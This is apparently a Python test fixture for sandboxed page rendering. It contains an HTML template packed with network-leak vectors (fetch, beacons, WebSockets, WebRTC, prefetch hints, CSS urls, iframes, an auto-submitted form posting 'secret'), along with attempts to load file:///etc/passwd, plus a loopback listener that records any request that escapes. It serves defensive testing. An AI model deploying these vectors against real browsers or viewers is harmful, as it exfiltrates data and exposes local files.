"""A page that tries every way out that a page has, and the traps that count what gets out."""

import socket
import threading
from dataclasses import dataclass, field
from typing import Self

VECTORS = """<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title>
<link rel="dns-prefetch" href="//{host}/dns"><link rel="preconnect" href="{web}/pc"><link rel="preconnect" href="{web}" crossorigin>
<link rel="prefetch" href="{web}/prefetch"><link rel="preload" as="image" href="{web}/preload.png"><link rel="prerender" href="{web}/prerender">
<link rel="stylesheet" href="{web}/style.css"><link rel="icon" href="{web}/favicon.ico"><link rel="manifest" href="{web}/manifest.json">
<link rel="modulepreload" href="{web}/module.js"><link rel="stylesheet" href="file:///etc/passwd">
<meta http-equiv="refresh" content="1; url={web}/refreshed"><base href="https://news.example.org/">
<style>@import url({web}/import.css); @font-face {{ font-family: leak; src: url({web}/font.woff2); }} body {{ background: url({web}/bg.png); font-family: leak; }}
 h1::after {{ content: url({web}/content.png); }} li {{ list-style-image: url(file:///etc/hostname); }}</style>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{web}/speculated"]}}],"prerender":[{{"source":"list","urls":["{web}/prerendered"]}}]}}</script>
<script src="{web}/script.js"></script>
<script>
fetch("{web}/fetch"); navigator.sendBeacon("{web}/beacon", "x"); new WebSocket("ws://{host}/socket"); new EventSource("{web}/events");
new Image().src = "{web}/made.png"; var x = new XMLHttpRequest(); x.open("POST", "{web}/post"); x.send("secret"); window.open("{web}/window");
try {{ var p = new RTCPeerConnection({{iceServers: [{{urls: "stun:{host}"}}]}}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)); }} catch (e) {{}}
try {{ new WebTransport("https://{host}/transport"); }} catch (e) {{}}
navigator.serviceWorker && navigator.serviceWorker.register("{web}/sw.js"); document.title = "scripts ran"; new Worker("{web}/worker.js");
</script></head><body>
<h1>Sealed words</h1><ul><li>one</li></ul>
<img src="{web}/img.png"><img srcset="{web}/srcset.png 1x"><img src="//{host}/relative.png"><img src="file:///etc/passwd"><img loading="lazy" src="{web}/lazy.png">
<picture><source srcset="{web}/picture.png"><img alt="x"></picture><svg><image href="{web}/svg.png"/><use href="{web}/sprite.svg#a"/></svg>
<iframe src="{web}/frame"></iframe><iframe src="file:///etc/passwd"></iframe><iframe srcdoc="<img src='{web}/srcdoc.png'><meta http-equiv=refresh content='0;url={web}/inner'>"></iframe>
<iframe src="ftp://{host}/ftp"></iframe><iframe src="warc://other.example.org/secret"></iframe><iframe src="chrome://version"></iframe><iframe src="view-source:{web}/"></iframe>
<object data="{web}/object.swf"></object><embed src="{web}/embed.pdf"><video src="{web}/video.mp4" poster="{web}/poster.png" autoplay preload="auto"></video>
<audio src="{web}/audio.mp3" autoplay preload="auto"></audio><track src="{web}/track.vtt">
<form id="f" action="{web}/form" method="post"><input name="a" value="secret"><button id="send" autofocus>Send</button></form>
<a id="ping" href="{web}/linked" ping="{web}/ping">link</a><a href="{web}/download" download>save</a><a id="blank" target="_blank" href="{web}/blank">window</a>
<input type="image" src="{web}/input.png"><body background="{web}/body.png"><table background="{web}/table.png"><tr><td>x</td></tr></table>
<portal src="{web}/portal"></portal><math><mtext href="{web}/math">m</mtext></math><script>document.forms[0].submit()</script></body></html>"""


@dataclass
class Trap:
    """Listens on loopback (TCP over IPv4 and IPv6, UDP) and writes down every knock, even one that says nothing."""

    port: int = 0
    knocks: list[str] = field(default_factory=list)
    _sockets: list[socket.socket] = field(default_factory=list)

    def __enter__(self) -> Self:
        first = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        first.bind(("127.0.0.1", self.port))
        self.port = first.getsockname()[1]
        self._listen(first)
        if socket.has_ipv6:
            second = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            try:
                second.bind(("::1", self.port))
            except OSError:
                second.close()
            else:
                self._listen(second)
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.bind(("127.0.0.1", self.port))
        self._sockets.append(datagrams)
        threading.Thread(target=self._datagrams, args=(datagrams,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        for held in self._sockets:
            held.close()

    def _listen(self, held: socket.socket) -> None:
        held.listen(64)
        self._sockets.append(held)
        threading.Thread(target=self._accept, args=(held,), daemon=True).start()

    def _accept(self, held: socket.socket) -> None:
        while True:
            try:
                peer, _ = held.accept()
            except OSError:
                return
            self.knocks.append("tcp")
            threading.Thread(target=self._hear, args=(peer,), daemon=True).start()

    def _hear(self, peer: socket.socket) -> None:
        with peer:
            peer.settimeout(2)
            try:
                said = peer.recv(2000).split(b"\r\n")[0].decode("latin-1")[:60]
                self.knocks.append(f"tcp {said}")
                peer.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
            except OSError:
                return

    def _datagrams(self, held: socket.socket) -> None:
        while True:
            try:
                held.recvfrom(2000)
            except OSError:
                return
            self.knocks.append("udp")


def page(host: str, scheme: str = "http") -> bytes:
    """Return the hostile page that knocks at `host`, with its port."""
    return VECTORS.format(host=host, web=f"{scheme}://{host}").encode()
